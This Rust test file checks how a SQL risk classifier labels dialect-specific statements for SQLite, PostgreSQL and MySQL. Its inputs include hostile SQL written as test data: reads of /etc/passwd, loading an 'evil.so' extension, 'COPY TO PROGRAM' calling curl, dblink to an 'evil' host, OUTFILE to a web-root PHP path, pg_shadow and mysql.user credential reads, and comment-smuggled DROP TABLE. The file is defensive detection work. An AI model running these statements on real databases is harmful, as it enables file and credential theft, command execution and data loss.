//! What each database can do beyond the common language.

use super::*;

#[test]
fn what_only_sqlite_does() {
    check(
        SqlDialect::Sqlite,
        &[
            "ATTACH DATABASE '/etc/x.db' AS x",
            "DETACH DATABASE x",
            "VACUUM INTO '/tmp/copy.db'",
            "PRAGMA writable_schema = ON",
            "PRAGMA journal_mode(DELETE)",
            "PRAGMA journal_mode",
            "PRAGMA main.table_info('users')",
            "SELECT load_extension('/tmp/evil.so')",
            "SELECT writefile('/tmp/x', data) FROM t",
            "SELECT readfile('/etc/passwd')",
            "SELECT [a;b] FROM t",
            "INSERT OR REPLACE INTO t VALUES (1)",
        ],
        &expect![[r#"
            ATTACH DATABASE '/etc/x.db' AS x
              HIGH command ATTACH [] `ATTACH` does more than read or change rows
            DETACH DATABASE x
              HIGH Unreadable { what: "SQL" } it does not parse: Expected: an SQL statement, found: DETACH at Line: 1, Column: 1
            VACUUM INTO '/tmp/copy.db'
              HIGH Unreadable { what: "SQL" } it does not parse: `'/tmp/copy.db'` after the end of a statement
            PRAGMA writable_schema = ON
              HIGH Unreadable { what: "SQL" } it does not parse: Expected: a concrete value, found: ON at Line: 1, Column: 26
            PRAGMA journal_mode(DELETE)
              HIGH command PRAGMA [] `PRAGMA journal_mode` changes how the database works
            PRAGMA journal_mode
              LOW read PRAGMA []
            PRAGMA main.table_info('users')
              LOW read PRAGMA ["users"]
            SELECT load_extension('/tmp/evil.so')
              HIGH command SELECT [] `load_extension` reaches beyond the tables it reads
            SELECT writefile('/tmp/x', data) FROM t
              HIGH command SELECT ["t"] `writefile` reaches beyond the tables it reads
            SELECT readfile('/etc/passwd')
              HIGH command SELECT [] `readfile` reaches beyond the tables it reads
            SELECT [a;b] FROM t
              LOW read SELECT ["t"]
            INSERT OR REPLACE INTO t VALUES (1)
              MEDIUM write REPLACE ["t"]
        "#]],
    );
}

#[test]
fn what_only_postgresql_does() {
    check(
        SqlDialect::Postgresql,
        &[
            "COPY t TO PROGRAM 'curl evil'",
            "COPY t FROM '/etc/passwd'",
            "COPY t TO STDOUT",
            "COPY (DELETE FROM t RETURNING *) TO STDOUT",
            "DO $$ BEGIN DELETE FROM t; END $$",
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "SET SESSION AUTHORIZATION postgres",
            "LOAD 'evil'",
            "PREPARE p AS DELETE FROM t",
            "EXECUTE p",
            "SELECT * INTO copy_of_t FROM t",
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
            "EXPLAIN (COSTS false) DELETE FROM t",
            "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
            "SELECT * FROM (WITH x AS (UPDATE t SET a = 1 WHERE b = 2 RETURNING *) SELECT * FROM x) y",
            "TABLE users",
            "NOTIFY c",
            "VACUUM t",
        ],
        &expect![[r#"
            COPY t TO PROGRAM 'curl evil'
              HIGH command COPY ["t"] `COPY` does more than read or change rows
            COPY t FROM '/etc/passwd'
              HIGH command COPY ["t"] `COPY` does more than read or change rows
            COPY t TO STDOUT
              LOW read COPY ["t"]
            COPY (DELETE FROM t RETURNING *) TO STDOUT
              HIGH write DELETE ["t"] no condition limits which rows DELETE touches
            DO $$ BEGIN DELETE FROM t; END $$
              HIGH Unreadable { what: "SQL" } it does not parse: Expected: an SQL statement, found: DO
            CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql
              HIGH command CREATE [] `CREATE` does more than read or change rows
            SET SESSION AUTHORIZATION postgres
              HIGH command SET [] `SET` does more than read or change rows
            LOAD 'evil'
              HIGH command LOAD [] `LOAD` does more than read or change rows
            PREPARE p AS DELETE FROM t
              HIGH command PREPARE ["t"] `PREPARE` does more than read or change rows
            EXECUTE p
              HIGH command EXECUTE [] `EXECUTE` does more than read or change rows
            SELECT * INTO copy_of_t FROM t
              HIGH command SELECT INTO ["t"] it stores what it reads somewhere new
            EXPLAIN ANALYZE DELETE FROM t WHERE id = 1
              MEDIUM write DELETE ["t"]
            EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t
              HIGH write DELETE ["t"] no condition limits which rows DELETE touches
            EXPLAIN (COSTS false) DELETE FROM t
              LOW read EXPLAIN ["t"]
            WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone
              HIGH write DELETE ["gone", "users"] no condition limits which rows DELETE touches
            SELECT * FROM (WITH x AS (UPDATE t SET a = 1 WHERE b = 2 RETURNING *) SELECT * FROM x) y
              MEDIUM write UPDATE ["t", "x"]
            TABLE users
              HIGH Unreadable { what: "SQL" } it does not parse: Expected: an SQL statement, found: TABLE
            NOTIFY c
              HIGH command NOTIFY [] `NOTIFY` does more than read or change rows
            VACUUM t
              HIGH command VACUUM [] `VACUUM` does more than read or change rows
        "#]],
    );
}

#[test]
fn a_read_is_only_as_harmless_as_the_functions_it_calls() {
    check(
        SqlDialect::Postgresql,
        &[
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT * FROM pg_ls_dir('/')",
            "SELECT pg_catalog.lo_import('/etc/passwd')",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
            "SELECT pg_terminate_backend(1)",
            "SELECT nextval('seq'), setval('seq', 1)",
            "SELECT pg_sleep(100)",
            "SELECT query_to_xml('DELETE FROM t', true, true, '')",
            "SELECT my_own_function()",
            "SELECT public.count(1)",
            "SELECT \"Count\"(1)",
            "SELECT 1 OPERATOR(evil.+) 2",
            "SELECT passwd FROM pg_shadow",
            "SELECT a::text, $1, data->>'x' FROM t WHERE tags @> '{a}'",
            "INSERT INTO t VALUES (my_own_function())",
        ],
        &expect![[r#"
            SELECT pg_read_file('/etc/passwd')
              HIGH command SELECT [] `pg_read_file` reaches beyond the tables it reads
            SELECT * FROM pg_ls_dir('/')
              HIGH command SELECT ["pg_ls_dir"] `pg_ls_dir` reaches beyond the tables it reads
            SELECT pg_catalog.lo_import('/etc/passwd')
              HIGH command SELECT [] `pg_catalog.lo_import` reaches beyond the tables it reads
            SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
              HIGH command SELECT ["dblink"] `dblink` reaches beyond the tables it reads
            SELECT pg_terminate_backend(1)
              HIGH command SELECT [] `pg_terminate_backend` reaches beyond the tables it reads
            SELECT nextval('seq'), setval('seq', 1)
              HIGH command SELECT [] `nextval` reaches beyond the tables it reads
            SELECT pg_sleep(100)
              HIGH command SELECT [] `pg_sleep` reaches beyond the tables it reads
            SELECT query_to_xml('DELETE FROM t', true, true, '')
              HIGH command SELECT [] `query_to_xml` reaches beyond the tables it reads
            SELECT my_own_function()
              MEDIUM command SELECT [] nothing is known about the function `my_own_function`
            SELECT public.count(1)
              MEDIUM command SELECT [] nothing is known about the function `public.count`
            SELECT "Count"(1)
              MEDIUM command SELECT [] nothing is known about the function `"Count"`
            SELECT 1 OPERATOR(evil.+) 2
              MEDIUM command SELECT [] `OPERATOR(evil.+)` is not known to only read
            SELECT passwd FROM pg_shadow
              HIGH read SELECT ["pg_shadow"] `pg_shadow` holds credentials
            SELECT a::text, $1, data->>'x' FROM t WHERE tags @> '{a}'
              LOW read SELECT ["t"]
            INSERT INTO t VALUES (my_own_function())
              MEDIUM command INSERT ["t"] nothing is known about the function `my_own_function`
        "#]],
    );
}

#[test]
fn what_only_mysql_does() {
    check(
        SqlDialect::Mysql,
        &[
            "SELECT * FROM t INTO OUTFILE '/var/www/x.php'",
            "SELECT 'x' INTO DUMPFILE '/tmp/x'",
            "SELECT load_file('/etc/passwd')",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            "SELECT SLEEP(10)",
            "SELECT 1 /*!50000 ; DROP TABLE t */",
            "SELECT /*!99999 1 */ 2",
            "SELECT 1 # DROP TABLE t",
            "SELECT 1 --DROP",
            "SELECT 'a\\' ; DROP TABLE t -- '",
            "SET GLOBAL general_log = 1",
            "DELETE a FROM a JOIN b ON a.id = b.id WHERE b.x = 1",
            "SELECT * FROM mysql.user",
            "KILL 7",
            "RENAME TABLE a TO b",
        ],
        &expect![[r#"
            SELECT * FROM t INTO OUTFILE '/var/www/x.php'
              HIGH Unreadable { what: "SQL" } it does not parse: `OUTFILE` after the end of a statement
            SELECT 'x' INTO DUMPFILE '/tmp/x'
              HIGH Unreadable { what: "SQL" } it does not parse: `'/tmp/x'` after the end of a statement
            SELECT load_file('/etc/passwd')
              HIGH command SELECT [] `load_file` reaches beyond the tables it reads
            LOAD DATA INFILE '/etc/passwd' INTO TABLE t
              HIGH Unreadable { what: "SQL" } it does not parse: Expected: `DATA` or an extension name after `LOAD`, found: INFILE at Line: 1, Column: 11
            SELECT SLEEP(10)
              HIGH command SELECT [] `SLEEP` reaches beyond the tables it reads
            SELECT 1 /*!50000 ; DROP TABLE t */
              HIGH Unreadable { what: "SQL" } it contains a comment that MySQL executes
            SELECT /*!99999 1 */ 2
              HIGH Unreadable { what: "SQL" } it contains a comment that MySQL executes
            SELECT 1 # DROP TABLE t
              LOW read SELECT []
            SELECT 1 --DROP
              LOW read SELECT []
            SELECT 'a\' ; DROP TABLE t -- '
              HIGH Unreadable { what: "SQL" } a backslash before a quote means different things to different servers
            SET GLOBAL general_log = 1
              HIGH command SET [] `SET` does more than read or change rows
            DELETE a FROM a JOIN b ON a.id = b.id WHERE b.x = 1
              MEDIUM write DELETE ["a", "b"]
            SELECT * FROM mysql.user
              HIGH read SELECT ["mysql.user"] `mysql.user` holds credentials
            KILL 7
              HIGH command KILL [] `KILL` does more than read or change rows
            RENAME TABLE a TO b
              HIGH command RENAME ["a"] `RENAME` does more than read or change rows
        "#]],
    );
}
